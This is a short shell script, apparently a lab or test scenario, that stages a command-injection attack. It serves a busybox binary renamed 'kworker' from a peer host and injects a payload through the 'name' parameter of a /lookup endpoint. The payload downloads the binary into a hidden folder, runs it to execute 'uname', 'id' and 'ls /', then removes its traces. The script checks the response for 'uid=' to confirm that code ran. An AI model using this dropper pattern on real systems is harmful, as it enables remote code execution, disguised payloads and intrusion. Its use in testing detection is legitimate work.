mkdir -p "$SCN_ATTACKER/www" && cp /bin/busybox "$SCN_ATTACKER/www/kworker"
python3 -m http.server 8000 --bind "$SCN_PEER" --directory "$SCN_ATTACKER/www" >/dev/null 2>&1 &
server=$!
trap 'kill $server' EXIT
for _ in $(seq 100); do curl -sf -m 1 -o /dev/null "http://$SCN_PEER:8000/kworker" && break; sleep 0.1; done
# busybox picks its applet from argv[0]: the dropper keeps that name, in a
# hidden folder.
payload="x;mkdir -p .cache && curl -s -o .cache/busybox http://$SCN_PEER:8000/kworker && chmod +x .cache/busybox && .cache/busybox sh -c 'uname -a; id; ls /'; rm -rf .cache"
curl -s -m 40 -G --data-urlencode "name=$payload" "http://$SCN_IP:8080/lookup" | tee "$SCN_ATTACKER/dropper.out" | grep -q 'uid='
